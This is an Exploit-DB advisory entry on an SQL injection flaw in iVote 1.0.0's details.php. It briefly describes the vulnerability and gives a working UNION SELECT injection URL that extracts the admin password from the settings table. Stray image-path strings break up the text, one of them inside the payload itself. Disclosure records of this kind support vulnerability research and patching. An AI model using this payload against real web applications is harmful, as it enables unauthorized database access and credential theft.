iVote 'details.php' SQL Injection Vulnerability

ID EDB-ID:38635
Type exploitdb
Reporter Ashiyane Digital Security Team
Modified 2013-07-10T00:00:00


iVote 'details.php' SQL Injection Vulnerability. Webapps exploit for php platform

                                            source: http://www.securityfocus.com/bid/61086/info

iVote is prone to an SQL-injection vulnerability because it fails to sufficiently sanitize user-supplied data before using it in an SQL query.Exploiting this issue could allow an attacker to compromise the application, access or modify data, or exploit latent vulnerabilities in the underlying database.

iVote 1.0.0 is vulnerable; other versions may be affected.

http://www.example.com/iVote/details.php?id=1 union select1,password,3,4 from settings